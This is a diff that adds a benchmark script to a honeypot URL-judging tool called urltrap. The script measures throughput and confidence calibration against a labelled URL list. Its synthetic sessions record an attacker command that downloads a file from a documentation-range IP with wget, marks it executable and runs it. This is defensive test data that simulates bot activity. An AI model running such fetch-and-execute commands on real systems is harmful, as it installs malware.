@@ -1,0 +1,269 @@
+"""Judging: URLs per second from prepared evidence and through the store, and how well confidences are calibrated.
+
+`python bench/judge.py [URLS.csv]` prints one JSON line; `--fit` prints the weights of a URL's spelling, fitted again.
+The list (url, label, threat, tags, date, source) is split by day: half of the days, and half of the undated hosts, are
+for fitting, the others for the test. A URL whose source is a dump that urltrap reads counts as listed by it, as it
+would be on that day; every other URL is judged by its spelling and the shipped list of hosts alone.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import math
+import sys
+import tempfile
+import time
+from collections import Counter
+from collections.abc import Sequence
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+from urltrap.intel import known
+from urltrap.judge import Evidence, Payload, judge
+from urltrap.judge.calibration import SIGNS
+from urltrap.judge.lexical import signs
+from urltrap.model.capture import Capture, FetchRequest
+from urltrap.model.event import (
+    Captured,
+    CommandEntered,
+    Connected,
+    Disconnected,
+    DownloadAsked,
+    EventBase,
+    ProgramRun,
+)
+from urltrap.model.ids import new_ulid
+from urltrap.model.settings import Settings
+from urltrap.model.url import Url, UrlError, canonical, parse_url
+from urltrap.model.verdict import Observation, Place, Verdict
+from urltrap.pipeline.analysing import AnalyseStage
+from urltrap.pipeline.campaigning import CampaignStage
+from urltrap.pipeline.concluding import ConcludeStage
+from urltrap.pipeline.judging import JudgeStage
+from urltrap.pipeline.laboratory import InProcess
+from urltrap.pipeline.recovering import RecoverStage
+from urltrap.pipeline.rejudging import rejudge
+from urltrap.pipeline.workshop import Workshop
+from urltrap.quarantine import Quarantine
+from urltrap.recover.flags import host_address
+from urltrap.store import open_store
+from urltrap.store.intake import ingest
+
+NOW = datetime(2026, 11, 24, tzinfo=UTC)
+DUMPS = {"urlhaus": "urlhaus", "PhishingURLDatasets": "phishtank", "openphish": "openphish"}
+DEFAULT = Path(__file__).resolve().parents[2] / "shared" / "data" / "urls.csv"
+KNOWN = known.shipped()
+
+
+@dataclass(frozen=True)
+class Labelled:
+    """One line of the list."""
+
+    url: Url
+    malicious: bool
+    provider: str
+    held_back: bool
+
+
+def load(path: Path) -> list[Labelled]:
+    """Lines whose URL is one."""
+    rows = []
+    with path.open(newline="") as stream:
+        for row in csv.DictReader(stream):
+            if row["label"] not in ("malicious", "benign"):
+                continue
+            try:
+                url = parse_url(canonical(row["url"]))
+            except UrlError:
+                continue
+            malicious = row["label"] == "malicious"
+            day = row["date"][:10] if len(row["date"]) >= 10 else url.host
+            held_back = hashlib.sha256(day.encode()).digest()[-1] % 2 == 1
+            provider = (
+                next((name for part, name in DUMPS.items() if part in row["source"]), "") if malicious else ""
+            )
+            rows.append(Labelled(url, malicious, provider, held_back))
+    return rows
+
+
+def evidence(item: Labelled, *, listings: bool = True) -> Evidence:
+    """What the product would hold about it on that day, without any session of an attacker."""
+    url = item.url
+    listed = ()
+    if item.provider and listings:
+        listed = (
+            Observation(
+                provider=item.provider, subject_kind="url", subject=url.text, at=NOW, result="listed", detail="this URL"
+            ),
+        )  # fmt: skip
+    return Evidence(
+        url=url.text, host=url.host, port=url.port, scheme=url.scheme, first_seen=NOW, secret="bench",
+        raw_address=host_address(url.host) is not None, observations=listed, labels=KNOWN.labels(url.host),
+    )  # fmt: skip
+
+
+def calibration_error(judged: Sequence[tuple[Verdict, bool]], bins: int = 10) -> float:
+    """Expected calibration error: the mean distance of confidence and truth over equally wide bins."""
+    sums = [[0.0, 0.0] for _ in range(bins)]
+    for verdict, malicious in judged:
+        place = sums[min(bins - 1, verdict.confidence * bins // 100)]
+        place[0] += verdict.confidence / 100
+        place[1] += malicious
+    return sum(abs(said - true) for said, true in sums) / max(1, len(judged))
+
+
+def fit(rows: Sequence[Labelled]) -> dict[str, float]:
+    """Log-odds of each sign and of "prior", by logistic regression with a ridge, over what no dump lists."""
+    counted: Counter[tuple[frozenset[str], bool]] = Counter()
+    for item in rows:
+        if not item.held_back and not item.provider:
+            url = item.url
+            shown = signs(url.scheme, url.host, url.port, url.path, host_address(url.host) is not None)
+            counted[shown, item.malicious] += 1
+    weights = dict.fromkeys((*SIGNS, "prior"), 0.0)
+    for _ in range(400):
+        slope = dict.fromkeys(weights, 0.0)
+        bend = dict.fromkeys(weights, 1e-6)
+        for (shown, malicious), n in counted.items():
+            names = (*shown, "prior")
+            likely = 1 / (1 + math.exp(-max(-30.0, min(30.0, sum(weights[name] for name in names)))))
+            for name in names:
+                slope[name] += n * (malicious - likely)
+                bend[name] += n * likely * (1 - likely) * len(names)
+        for name in weights:
+            ridge = 0.0 if name == "prior" else 1.0
+            weights[name] += (slope[name] - ridge * weights[name]) / (bend[name] + ridge)
+    return weights
+
+
+def prepared(count: int) -> list[Evidence]:
+    """Evidence as full as that of a busy URL."""
+    payload = Payload(
+        "a" * 64, "elf", "mips", status=200, size=90_000, family="Mirai", rules=("mirai",), role="payload"
+    )
+    listed = Observation(
+        provider="urlhaus",
+        subject_kind="url",
+        subject="x",
+        at=NOW,
+        result="listed",
+        detail="this URL",
+        tags=["mirai"],
+    )
+    return [
+        Evidence(
+            url=f"http://198.51.{n % 100}.{n % 250}:81/bins/x{n}.mips", host=f"198.51.{n % 100}.{n % 250}", port=81,
+            scheme="http", raw_address=True, first_seen=NOW - timedelta(hours=n % 90), secret=str(n), sources=n % 4,
+            asked=True, commanded=True, run=n % 2 == 0, payloads=(payload,) if n % 3 else (), outcomes=("fetched",),
+            observations=(listed,) if n % 5 == 0 else (), protocols=("ssh",), clients=("wget",),
+            techniques=("T1105", "T1222.002"),
+        )
+        for n in range(count)
+    ]  # fmt: skip
+
+
+def speed(count: int = 20_000) -> float:
+    """URLs per second, from prepared evidence."""
+    items = prepared(count)
+    began = time.perf_counter()
+    for item in items:
+        judge(item, NOW, (30, 720))
+    return count / (time.perf_counter() - began)
+
+
+def main() -> None:
+    """Print the figures."""
+    arguments = [argument for argument in sys.argv[1:] if not argument.startswith("--")]
+    path = Path(arguments[0]) if arguments else DEFAULT
+    if "--fit" in sys.argv:
+        print(json.dumps({name: round(weight, 2) for name, weight in fit(load(path)).items()}))
+        return
+    figures: dict[str, object] = {"bench": "judge", "prepared_urls_per_second": round(speed())}
+    if path.exists():
+        rows = load(path)
+        held_back = [item for item in rows if item.held_back]
+        judged = [(judge(evidence(item), NOW, (0, 0)), item.malicious) for item in held_back]
+        spelt = [(judge(evidence(item, listings=False), NOW, (0, 0)), item.malicious) for item in held_back]
+        benign = [judge(evidence(item), NOW, (0, 0)) for item in rows if not item.malicious]
+        figures |= {
+            "held_back": len(held_back),
+            "calibration_error": round(calibration_error(judged), 4),
+            "calibration_error_by_spelling_alone": round(calibration_error(spelt), 4),
+            "benign": len(benign),
+            "benign_from_60": sum(verdict.confidence >= 60 for verdict in benign),
+            "benign_malicious": sum(verdict.verdict.startswith("malicious-") for verdict in benign),
+        }
+    with tempfile.TemporaryDirectory() as folder:
+        figures |= through_the_store(Path(folder))
+    print(json.dumps(figures))
+
+
+def through_the_store(folder: Path, count: int = 3000) -> dict[str, object]:
+    """URLs per second of judging again a store in which every URL has a session, a capture and a payload."""
+    store = open_store(str(folder / "urltrap.db"))
+    quarantine = Quarantine(folder / "quarantine")
+    examiner, _ = InProcess.from_folder(None)
+    workshop = Workshop(
+        settings=Settings(), store=store, quarantine=quarantine, fetcher=_Nobody(), places=_Nowhere(), providers=[],
+        known_hosts=KNOWN, laboratory=examiner, now=lambda: NOW,
+    )  # fmt: skip
+    events: list[EventBase] = []
+    stream = new_ulid(1_795_000_000_000, b"fetcher---")
+    for n in range(count):
+        url = f"http://198.51.{n % 100}.{n % 250}/bins/x{n}.mips"
+        session = new_ulid(1_795_000_100_000 + n, n.to_bytes(10, "big"))
+        kept = quarantine.put(
+            b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\0\x08\0" + n.to_bytes(4, "big") + bytes(60)
+        )
+        capture = Capture(
+            url=url,
+            at=NOW,
+            outcome="fetched",
+            status=200,
+            sha256=kept.sha256,
+            size=kept.size,
+            for_session=session,
+        )
+        events += [
+            Connected(session=session, seq=0, at=NOW, sensor="ssh", protocol="ssh", src_ip=f"203.0.{n % 113}.{n % 251}",
+                      src_port=4, dst_ip="192.0.2.1", dst_port=22),
+            CommandEntered(session=session, seq=1, at=NOW, mode="exec",
+                           text=f"cd /tmp; wget {url} -O .x; chmod +x .x; ./.x; uname -a".encode()),
+            DownloadAsked(session=session, seq=2, at=NOW, url=url.encode(), client="wget", output=b"/tmp/.x"),
+            ProgramRun(session=session, seq=3, at=NOW, argv=[b"chmod", b"+x", b".x"], outcome="ran"),
+            ProgramRun(session=session, seq=4, at=NOW, argv=[b"./.x"], outcome="ran"),
+            Disconnected(session=session, seq=5, at=NOW, reason="client", duration_ms=5),
+            Captured(session=stream, seq=n, at=NOW, capture=capture),
+        ]  # fmt: skip
+    for start in range(0, len(events), 500):
+        ingest(store, "bench", events[start : start + 500], (1, start + 1))
+    line = (RecoverStage(), AnalyseStage(), ConcludeStage(), CampaignStage(), JudgeStage())
+    while sum(stage.run(workshop) for stage in line):
+        pass
+    began = time.perf_counter()
+    moved = rejudge(workshop)
+    seconds = time.perf_counter() - began
+    store.close()
+    return {
+        "stored_urls": sum(moved.values()),
+        "stored_urls_per_second": round(sum(moved.values()) / seconds),
+    }
+
+
+class _Nobody:
+    def fetch(self, request: FetchRequest, timeout: float = 0) -> Capture:
+        raise RuntimeError("nothing is fetched here")
+
+
+class _Nowhere:
+    version = "bench"
+
+    def find(self, address: str) -> Place:
+        return Place()
+
+
+if __name__ == "__main__":
+    main()
